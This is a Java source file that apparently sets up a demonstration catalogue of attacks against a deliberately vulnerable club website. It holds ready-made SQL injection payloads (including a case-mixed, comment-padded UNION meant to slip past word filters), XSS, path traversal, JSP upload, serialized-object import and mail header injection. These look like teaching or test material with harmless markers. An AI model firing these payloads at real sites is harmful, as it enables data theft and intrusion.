package io.gatehouse.demo.attacks;

import static io.gatehouse.demo.attacks.Attack.attack;
import static io.gatehouse.demo.attacks.Attack.entry;
import static io.gatehouse.demo.attacks.RawRequest.form;
import static io.gatehouse.demo.attacks.RawRequest.get;

import io.gatehouse.demo.club.RaceResult;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.ObjectOutputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;

/** What a page takes for its own: SQL, scripts, files, objects, lines of mail. */
final class InjectionAttacks {

    private InjectionAttacks() {}

    static List<Attack> sql() {
        String group = "SQL injection";
        return List.of(
                search(
                        group,
                        "sql-or",
                        "Read unpublished news",
                        "Turns the condition into one that is always true.",
                        "%27+OR+%271%27%3D%271%27+--+",
                        "NOT-FOR-PUBLICATION"),
                search(
                        group,
                        "sql-union",
                        "Read another table",
                        "Adds the members' locker codes to the result.",
                        "%27+UNION+SELECT+seat%2Cname%2Clocker_code+FROM+members--+",
                        "LOCKER-CODE-"),
                search(
                        group,
                        "sql-union-comments",
                        "Read another table, in disguise",
                        "Comments for spaces and mixed case slip past word lists.",
                        "%27%2F**%2FuNiOn%2F**%2FsElEcT%2F**%2Fseat%2Cname%2Clocker_code%2F**%2FfRoM%2F**%2Fmembers--+",
                        "LOCKER-CODE-"),
                search(
                        group,
                        "sql-error",
                        "Make the database talk",
                        "One quote, and the error names the statement.",
                        "%27",
                        "Syntax error in SQL statement"));
    }

    static List<Attack> script() {
        String group = "Script injection (XSS)";
        String tag = "%3Cscript%3Edocument.title%3D%27{token}%27%3C%2Fscript%3E";
        Marker ran = Marker.body("<script>document.title='{token}'</script>");
        return List.of(
                attack(
                        group,
                        "xss-guestbook",
                        "Reflected, guestbook",
                        "A link carries the script.",
                        ran,
                        get("/guestbook?name=" + tag)),
                attack(
                        group,
                        "xss-search",
                        "Reflected, search",
                        "A link carries the script.",
                        ran,
                        get("/search?q=" + tag)),
                attack(
                        group,
                        "xss-attribute",
                        "Out of an attribute",
                        "A quote ends the field's value, an event handler follows.",
                        Marker.body("value=\"\" autofocus onfocus=\"document.title='{token}'\""),
                        get("/search?q=%22+autofocus+onfocus%3D%22document.title%3D%27{token}%27")),
                attack(
                        group,
                        "xss-script",
                        "Out of a script's string",
                        "A quote ends the string, code follows.",
                        Marker.body("asked = \"\";document.title=\"{token}\""),
                        get("/search?q=%22%3Bdocument.title%3D%22{token}")),
                attack(
                        group,
                        "xss-stored",
                        "Stored in the guestbook",
                        "Runs in the browser of everybody who reads the guestbook.",
                        ran,
                        form("/guestbook", "name=Eve&message=" + tag),
                        get("/guestbook")));
    }

    static List<Attack> files() {
        String group = "Files";
        return List.of(
                entry(
                        group,
                        "file-traversal",
                        "Leave the documents by a parameter",
                        "Two dots lead to the folder above.",
                        "/files/?doc=../SECRET-OUTSIDE.txt",
                        "OUTSIDE-OF-THE-DOCUMENTS"),
                entry(
                        group,
                        "file-traversal-path",
                        "Leave the documents by the path",
                        "Encoded twice: the container decodes once, the page once more.",
                        "/files/%252e%252e%252fSECRET-OUTSIDE.txt",
                        "OUTSIDE-OF-THE-DOCUMENTS"),
                attack(
                        group,
                        "upload-jsp",
                        "Upload a page of code",
                        "A .jsp in a folder that the container serves is a shell.",
                        Marker.body("stored: club/uploads/{token}.jsp"),
                        upload("{token}.jsp", "application/octet-stream", "<%= Runtime.getRuntime() %>")),
                attack(
                        group,
                        "upload-html",
                        "Upload a page of script",
                        "Served again from this site, with this site's rights.",
                        Marker.body("<script>document.title='{token}'</script>"),
                        upload("{token}.html", "text/html", "<script>document.title='{token}'</script>"),
                        get("/upload/{token}.html")),
                attack(
                        group,
                        "upload-traversal",
                        "Upload outside of the folder",
                        "The file's name says where it goes.",
                        Marker.body("stored: club/{token}.txt"),
                        upload("../{token}.txt", "text/plain", "hello")));
    }

    static List<Attack> objects() {
        String group = "Object injection";
        Marker happened = Marker.body("object injection happened");
        String base64 =
                Base64.getEncoder().encodeToString(gadget()).replace("+", "%2B").replace("=", "%3D");
        return List.of(
                attack(
                        group,
                        "object-form",
                        "Import an object by the form",
                        "Reading it runs code of a class that the sender chose.",
                        happened,
                        form("/import", "object=" + base64)),
                attack(
                        group,
                        "object-body",
                        "Import an object as the body",
                        "The same in bytes.",
                        happened,
                        new RawRequest(
                                "POST",
                                "/import",
                                List.of("Content-Type: application/x-java-serialized-object"),
                                new String(gadget(), StandardCharsets.ISO_8859_1))));
    }

    static List<Attack> mail() {
        String group = "Mail";
        return List.of(
                attack(
                        group,
                        "mail-subject",
                        "Add recipients by the subject",
                        "A line break in the subject starts a header of its own.",
                        Marker.body("\nBcc: {token}@evil.example"),
                        form(
                                "/contact",
                                "preview=1&name=Eve&email=eve%40evil.example&message=Hi&subject=Hi%0D%0ABcc:%20{token}%40evil.example")),
                attack(
                        group,
                        "mail-reply-to",
                        "Add recipients by the sender",
                        "The same by the address to answer to.",
                        Marker.body("\nCc: {token}@evil.example"),
                        form(
                                "/contact",
                                "preview=1&name=Eve&email=a%40evil.example%3E%0D%0ACc:%20{token}%40evil.example&message=Hi&subject=Hi")),
                attack(
                        group,
                        "mail-host",
                        "Put a stranger's link into the club's mail",
                        "The link is made of the Host header.",
                        Marker.body("://{token}.evil.example/contact"),
                        form("/contact", "preview=1&name=Eve&email=eve%40evil.example&message=Hi&subject=Hi")
                                .with("Host: {token}.evil.example")));
    }

    static List<Attack> log() {
        String group = "Log injection";
        return List.of(attack(
                group,
                "log-forging",
                "Forge a line of the log",
                "A line break in the entry starts a line that nobody wrote.",
                Marker.body("\n2026-01-01 00:00 | INFO | committee: the keys go to {token}"),
                form(
                        "/logbook",
                        "entry=calm%0A2026-01-01%2000:00%20%7C%20INFO%20%7C%20committee:%20the%20keys%20go%20to%20{token}"),
                get("/logbook?plain=1")));
    }

    private static Attack search(String group, String id, String title, String about, String query, String marker) {
        return entry(group, id, title, about, "/search?q=" + query, marker);
    }

    private static RawRequest upload(String name, String type, String content) {
        List<String> lines = new ArrayList<>();
        lines.add("--oars");
        lines.add("Content-Disposition: form-data; name=\"file\"; filename=\"" + name + "\"");
        lines.add("Content-Type: " + type);
        lines.add("");
        lines.add(content);
        lines.add("--oars--");
        lines.add("");
        return new RawRequest(
                "POST",
                "/upload",
                List.of("Content-Type: multipart/form-data; boundary=oars"),
                String.join("\r\n", lines));
    }

    private static byte[] gadget() {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ObjectOutputStream out = new ObjectOutputStream(bytes)) {
            out.writeObject(new RaceResult("the Heron"));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }
}
